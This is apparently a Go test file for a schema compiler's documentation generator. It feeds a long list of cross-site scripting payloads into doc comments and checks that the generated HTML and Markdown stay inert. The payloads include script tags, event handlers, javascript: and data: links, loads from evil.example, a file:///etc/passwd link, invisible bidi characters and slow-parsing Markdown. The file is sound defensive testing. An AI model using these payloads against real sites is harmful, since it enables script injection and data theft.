package doc_test

import (
	"bytes"
	"fmt"
	"net/url"
	"path"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/extension"
	unsafehtml "github.com/yuin/goldmark/renderer/html"
	"golang.org/x/net/html"

	"github.com/serial-data-protocol/sdp/compiler/doc"
	"github.com/serial-data-protocol/sdp/compiler/internal/hostile"
	"github.com/serial-data-protocol/sdp/compiler/source"
)

// read is a page as a browser reads it.
type read struct {
	ids   map[string]bool
	links []string
	text  string
}

// elements are the elements of pages; comments may bring no others.
var elements = strings.Fields("html head meta title link script body a header search input kbd ul ol li div nav p main h1 h2 h3 section table thead tbody tr th td code pre span strong em br hr blockquote dl dt dd figure figcaption footer")

// parsed reads a page as a browser does, and refuses what runs or loads anything but the
// pages' own files.
func parsed(t *testing.T, name, text string) read {
	t.Helper()
	found := read{ids: map[string]bool{}}
	if path.Ext(name) != ".html" {
		return found
	}
	root, err := html.Parse(strings.NewReader(text))
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	var shown strings.Builder
	for _, n := range nodes(root) {
		if n.Type == html.TextNode {
			shown.WriteString(n.Data)
		}
		if n.Type != html.ElementNode {
			continue
		}
		if !slices.Contains(elements, n.Data) {
			t.Errorf("%s has an element %s", name, n.Data)
		}
		if n.Data == "script" && (n.FirstChild != nil || len(n.Attr) != 2) {
			t.Errorf("%s has a script in it", name)
		}
		for _, a := range n.Attr {
			switch key := strings.ToLower(a.Key); {
			case strings.HasPrefix(key, "on") || key == "style" || key == "srcdoc" || key == "action" || key == "formaction":
				t.Errorf("%s has an attribute %s=%q of %s", name, a.Key, a.Val, n.Data)
			case key == "id":
				if found.ids[a.Val] {
					t.Errorf("%s has two places %s", name, a.Val)
				}
				found.ids[a.Val] = true
			case key == "href" && n.Data == "link", key == "src":
				if a.Val != "./style.css" && a.Val != "./search.js" {
					t.Errorf("%s loads %s", name, a.Val)
				}
			case key == "href":
				found.link(t, name, a.Val)
			}
		}
	}
	found.text = shown.String()
	return found
}

// nodes are all below one, in the order of the text.
func nodes(n *html.Node) []*html.Node {
	all := []*html.Node{n}
	for c := n.FirstChild; c != nil; c = c.NextSibling {
		all = append(all, nodes(c)...)
	}
	return all
}

// link notes a link, and refuses addresses without a known scheme.
func (r *read) link(t *testing.T, name, address string) {
	t.Helper()
	target, err := url.Parse(address)
	switch {
	case err != nil:
		t.Errorf("%s has the address %q: %v", name, address, err)
	case target.Scheme == "":
		if target.Host != "" {
			t.Errorf("%s leads to %q, which is another server", name, address)
		}
		r.links = append(r.links, address)
	case !slices.Contains([]string{"http", "https", "mailto"}, target.Scheme):
		t.Errorf("%s leads to %q", name, address)
	}
}

// payloads try to be run, to load something, or to break out of where they stand.
var payloads = []string{
	`<script>boom()</script>`,
	`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
	`<img src=x onerror=boom()>`,
	`<svg/onload=boom()>`,
	`<a href="javascript:boom()">x</a>`,
	`[x](javascript:boom())`,
	`[x](JaVaScRiPt:boom())`,
	"[x](java\tscript:boom())",
	`[x](&#106;avascript:boom())`,
	`[x](javascript&colon;boom())`,
	`[x](\javascript:boom())`,
	`[x](data:text/html;base64,PHNjcmlwdD4=)`,
	`[x](vbscript:boom())`,
	`[x](file:///etc/passwd)`,
	`[x](//evil.example/x)`,
	`[x](relative.html)`,
	`![x](javascript:boom())`,
	`![x](https://evil.example/pixel.png)`,
	`<javascript:boom()>`,
	"[x]: javascript:boom()\n\n[x] and [x][]",
	`[x](https://a.example/"onmouseover="boom())`,
	`[x](<https://a.example/" onmouseover=boom() x=">)`,
	`[x](https://a.example 'title" onclick="boom()')`,
	`<https://a.example/"onclick=boom()//>`,
	"`</code><script>boom()</script>`",
	"```\n</code></pre><script>boom()</script>\n```",
	"``` \"><script>boom()</script>\ntext\n```",
	"    </code></pre><script>boom()</script>",
	`</td></tr></table><script>boom()</script>`,
	`</div></main><iframe src=https://evil.example></iframe>`,
	`<style>*{display:none}</style>`,
	`<!-- --><script>boom()</script><!--`,
	`<![CDATA[<script>boom()</script>]]>`,
	`<?php boom() ?>`,
	`<base href=https://evil.example>`,
	`<meta http-equiv=refresh content="0;url=javascript:boom()">`,
	`<form action=https://evil.example><input name=a>`,
	`<object data=x><embed src=x>`,
	`<math><mi xlink:href="javascript:boom()">x</mi></math>`,
	`&lt;script&gt;boom()&lt;/script&gt;`,
	`&#60;script&#62;boom()&#60;/script&#62;`,
	`\<script\>boom()\</script\>`,
	`{{.Site}} {{template "head"}} ${boom()}`,
	`a | b | <script>boom()</script> | c`,
	"| a |\n|---|\n| <script>boom()</script> |",
	"`a|b` \\| `` ` `` ``` x",
	"# Title\n\nTitle\n=====\n\n---\n\n## <script>boom()</script>",
	"* a\n  * <script>boom()</script>\n\n1. b\n\n> <script>boom()</script>",
	"**<script>**boom()</script>",
	"turned \u202e round \u2066 and \u200f",
	"&#x202e;turned by a name &#8238;",
	"\u2028\u2029\ufeff\u0085\x00\x1b[31m",
	`https://evil.example/<script>boom()</script>`,
	`<div
  onclick=boom()
>`,
	"<script>\n\nboom()\n\n</script>",
	`Vec<u8> & Map<K, V>`,
	`"'><script>boom()</script>`,
}

// hostileSchema says a text everywhere that a schema can say one.
func hostileSchema(text string) string {
	var lines, file strings.Builder
	for line := range strings.SplitSeq(text, "\n") {
		if strings.ContainsRune(line, '\x00') {
			line = strings.ReplaceAll(line, "\x00", "")
		}
		fmt.Fprintf(&lines, "///%s\n", " "+line)
		fmt.Fprintf(&file, "//!%s\n", " "+line)
	}
	d := lines.String()
	visible := strings.Map(func(r rune) rune {
		if source.Hidden(r) || r == '\t' {
			return -1
		}
		return r
	}, text)
	quoted := strings.NewReplacer(`\`, `\\`, `"`, `\"`).Replace(visible)
	return file.String() + "package evil;\n" +
		d + "const A: str = \"" + quoted + "\";\n" +
		d + "type B = u8;\n" +
		d + "enum E: u8 {\n" + d + "@deprecated(\"" + quoted + "\") N = 0, }\n" +
		d + "@deprecated(\"" + quoted + "\") struct S {\n" + d + "@x.a.b(\"" + quoted + "\") a: B, }\n" +
		d + "@id(1) message M {\n" + d + "a: E,\n" + d + "@since(2) b: str = \"" + quoted + "\", }\n" +
		d + "union U {\n" + d + "C(S) = 1,\n" + d + "I {\n" + d + "a: u8 } = 2, }\n" +
		d + "service V {\n" + d + "call go(M) -> M = 1; }\n"
}

// shownAs reads Markdown as a forge does, but without its care: HTML in it is HTML.
var shownAs = goldmark.New(goldmark.WithExtensions(extension.GFM), goldmark.WithRendererOptions(unsafehtml.WithUnsafe()))

// inert reads all pages of a hostile schema, in both forms.
func inert(t *testing.T, schema string) {
	t.Helper()
	program := compile(t, map[string]string{"evil.sdp": schema}, "evil.sdp")
	for name, text := range pages(program, doc.HTML) {
		if i := strings.IndexFunc(text, func(r rune) bool { return source.Hidden(r) && r != '\n' }); i >= 0 {
			t.Errorf("%s has a character that shows nothing: %q", name, text[i:min(len(text), i+20)])
		}
		parsed(t, name, text)
		if strings.HasSuffix(name, ".js") && strings.Contains(text, "<script") {
			t.Errorf("%s has a tag", name)
		}
	}
	for name, text := range pages(program, doc.Markdown) {
		if i := strings.IndexFunc(text, func(r rune) bool { return source.Hidden(r) && r != '\n' }); i >= 0 {
			t.Errorf("%s has a character that shows nothing: %q", name, text[i:min(len(text), i+20)])
		}
		var out bytes.Buffer
		if err := shownAs.Convert([]byte(text), &out); err != nil {
			t.Fatal(err)
		}
		parsed(t, name+".html", out.String())
		if tables := strings.Count(out.String(), "<table>"); tables != strings.Count(text, "\n|---") && tables == 0 {
			t.Errorf("%s has no table any more", name)
		}
	}
}

func TestHostileTextsAreTexts(t *testing.T) {
	for i, payload := range payloads {
		t.Run(fmt.Sprint(i), func(t *testing.T) { inert(t, hostileSchema(payload)) })
	}
	all := hostileSchema(strings.Join(payloads, "\n\n"))
	inert(t, all)
	page := pages(compile(t, map[string]string{"evil.sdp": all}, "evil.sdp"), doc.HTML)["evil.M.html"]
	shown := parsed(t, "evil.M.html", page).text
	for _, want := range []string{`<script>boom()</script>`, `<svg/onload=boom()>`, `Vec<u8> & Map<K, V>`, `turned U+202E round`, `U+202Eturned by a name`} {
		if !strings.Contains(shown, want) {
			t.Errorf("the page does not show %s", want)
		}
	}
}

func TestTextsThatGoAgainstBackendsAreTexts(t *testing.T) { inert(t, hostile.Schema()) }

// TestCommentsTakeLinearTime holds comments that parsers of Markdown are slow on.
func TestCommentsTakeLinearTime(t *testing.T) {
	for _, part := range []string{"> ", "* ", "[", "![", "*a ", "_a*", "`a", "<a", "[a](", "[a][", "&amp", "\\", "1. ", "- a\n  ", "<!--", "~~~\n", "| a ", "**a [", "a**b"} {
		text := strings.Repeat(part, (16<<10)/len(part)-1)
		var lines strings.Builder
		for line := range strings.SplitSeq(text, "\n") {
			lines.WriteString("/// " + line + "\n")
		}
		program := compile(t, map[string]string{"slow.sdp": "package slow;\n" + lines.String() + "struct S { a: u8 }"}, "slow.sdp")
		for _, form := range []doc.Form{doc.HTML, doc.Markdown} {
			begun := time.Now()
			pages(program, form)
			if took := time.Since(begun); took > 2*time.Second {
				t.Errorf("%q as %s took %s", part, form, took)
			}
		}
	}
	long := compile(t, map[string]string{"long.sdp": "package long;\n/// " + strings.Repeat("> ", 1<<20) + "<script>\nstruct S { a: u8 }"}, "long.sdp")
	for _, form := range []doc.Form{doc.HTML, doc.Markdown} {
		if text := pages(long, form)["long.S"+form.Extension()]; strings.Contains(text, "<blockquote>") || len(text) < 1<<20 {
			t.Errorf("a long comment is not shown as it is, in %s", form)
		}
	}
}
